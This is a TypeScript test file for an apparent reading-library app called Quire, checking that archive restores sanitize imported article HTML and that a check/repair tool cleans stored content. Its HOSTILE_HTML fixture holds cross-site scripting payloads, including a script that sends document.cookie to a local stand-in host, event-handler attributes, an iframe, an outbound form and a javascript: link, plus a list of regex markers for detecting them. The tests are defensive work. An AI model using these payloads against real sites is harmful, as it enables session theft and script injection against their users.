/**
 * A restore is an import: an archive's content.html goes through the importers' sanitizer, its
 * text.txt is derived again from the HTML, and `quire check` finds (and `--repair` sanitizes)
 * stored content that the sanitizer would change.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import yazl from 'yazl';
import { checkLibrary } from '../../../../electron/core/library/check/check-library';
import { textOfContent } from '../../../../electron/core/library/check/derive-text';
import { repairLibrary } from '../../../../electron/core/library/check/repair-library';
import { EPUB_DIR, SEED_FILE, WEB_PAGES_DIR } from '../../../support/corpus-paths';
import { openTestLibrary } from '../support/import-library';
import { useTempDir } from '../support/temp-dir';

const tempDir = useTempDir('quire-hostile-');

/** Everything the attacker put into one article, around text a reader should still see. */
const HOSTILE_HTML = [
  '<meta http-equiv="refresh" content="0; url=http://127.0.0.1:9999/steal">',
  '<p onclick="alert(1)">The first paragraph is kept, without its handler.</p>',
  '<script>fetch("http://127.0.0.1:9999/" + document.cookie)</script>',
  '<img src="x" onerror="alert(2)" alt="">',
  '<iframe src="http://127.0.0.1:9999/frame"></iframe>',
  '<form action="http://127.0.0.1:9999/post"><input name="q" value="typed"><button>Send</button></form>',
  '<p><a href="javascript:alert(3)">A link that ran script</a> and the second paragraph.</p>',
].join('\n');

const ATTACK_MARKERS = [/<script/i, /\son\w+=/i, /<iframe/i, /<form/i, /<input/i, /<meta/i, /javascript:/i, /127\.0\.0\.1/];

async function zipOf(file: string, entries: Record<string, string | Buffer>): Promise<void> {
  const zip = new yazl.ZipFile();
  for (const [name, bytes] of Object.entries(entries)) zip.addBuffer(Buffer.from(bytes), name);
  zip.end();
  const chunks: Buffer[] = [];
  for await (const chunk of zip.outputStream as AsyncIterable<Buffer>) chunks.push(chunk);
  writeFileSync(file, Buffer.concat(chunks));
}

/** A library with one plain article; returns its article.json to build archives from. */
async function noteLibrary(root: string) {
  const note = path.join(root, 'note.txt');
  writeFileSync(note, 'A harmless note\n\nThe first paragraph is kept, without its handler.\n\nAnd the second paragraph.');
  const opened = await openTestLibrary(root);
  const [outcome] = await opened.core.importPaths([note]);
  if (outcome?.status !== 'imported') throw new Error('note not imported');
  return { ...opened, id: outcome.article.id, dir: path.join(opened.libraryDir, 'articles', outcome.article.id) };
}

describe('restores are imports', () => {
  it('what the importers wrote passes the check unchanged (every corpus page with its images, every EPUB)', async () => {
    const { core, libraryDir } = await openTestLibrary(tempDir());
    try {
      const outcomes = await core.importPaths([WEB_PAGES_DIR, EPUB_DIR, SEED_FILE]);
      expect(outcomes.filter((o) => o.status === 'imported').length).toBeGreaterThan(25);
    } finally {
      await core.close();
    }
    expect((await checkLibrary(libraryDir)).problems).toEqual([]);
  }, 120_000);

  it('import-library sanitizes an archive article and derives its text again; the library checks clean', async () => {
    const source = await noteLibrary(tempDir());
    const meta = JSON.parse(readFileSync(path.join(source.dir, 'article.json'), 'utf8')) as Record<string, unknown>;
    await source.core.close();
    const id = 'a0a0a0a0a0a0a0a0';
    const archive = path.join(tempDir(), 'hostile.zip');
    await zipOf(archive, {
      'manifest.json': JSON.stringify({ format: 'quire-library-archive', version: 1, kind: 'library', createdAt: '2026-12-01T00:00:00.000Z', articles: [{ id, title: 'x', annotations: 0 }] }),
      [`articles/${id}/article.json`]: JSON.stringify({ ...meta, id, title: 'Restored', contentHash: 'forged', wordCount: 999_999 }),
      [`articles/${id}/content.html`]: HOSTILE_HTML,
      // A text that does not match the HTML: passages would point at the wrong words.
      [`articles/${id}/text.txt`]: 'Whatever the archive claims the text is.',
    });

    const target = await openTestLibrary(tempDir());
    try {
      const report = await target.core.archives.importLibrary(archive, { dryRun: false });
      expect(report.articlesAdded).toBe(1);
      expect(report.lines.some((line) => line.startsWith(`sanitized article ${id}:`))).toBe(true);
      const content = await target.core.getContent(id);
      for (const marker of ATTACK_MARKERS) expect(content.html).not.toMatch(marker);
      expect(content.html).toContain('The first paragraph is kept, without its handler.');
      expect(content.html).toContain('A link that ran script');
      expect(content.text).toBe(textOfContent(content.html));
      const stored = await target.core.getArticle(id);
      expect(stored.contentHash).not.toBe('forged');
      expect(stored.wordCount).toBeLessThan(50);
    } finally {
      await target.core.close();
    }
    expect((await checkLibrary(target.libraryDir)).problems).toEqual([]);
  });

  it('quire check finds stored content the sanitizer would change; --repair sanitizes it and re-anchors its passages', async () => {
    const { core, libraryDir, id, dir } = await noteLibrary(tempDir());
    const quote = 'And the second paragraph';
    const bookmark = await core.createAnnotation({ articleId: id, kind: 'bookmark', passage: { quote } });
    await core.close();
    // Something other than Quire wrote the article's HTML (a hand edit, an older restore).
    writeFileSync(path.join(dir, 'content.html'), `${HOSTILE_HTML}\n<p>And the second paragraph.</p>`);

    const found = await checkLibrary(libraryDir);
    expect(found.problems.map((p) => [p.where, p.repair?.kind])).toEqual([[`articles/${id}/content.html`, 'sanitize-content']]);

    const outcome = await repairLibrary(libraryDir, found.problems, () => '2026-12-03T00:00:00.000Z');
    expect(outcome.failures).toEqual([]);
    expect(outcome.actions).toEqual([expect.stringMatching(new RegExp(`^sanitized   articles/${id}/content.html`))]);
    const html = readFileSync(path.join(dir, 'content.html'), 'utf8');
    for (const marker of ATTACK_MARKERS) expect(html).not.toMatch(marker);
    const text = readFileSync(path.join(dir, 'text.txt'), 'utf8');
    expect(text).toBe(textOfContent(html));
    const placed = JSON.parse(readFileSync(path.join(dir, 'annotations', `${bookmark.id}.json`), 'utf8')) as typeof bookmark;
    expect(text.slice(placed.target!.position.start, placed.target!.position.end)).toBe(quote);
    expect((await checkLibrary(libraryDir)).problems).toEqual([]);
  });
});
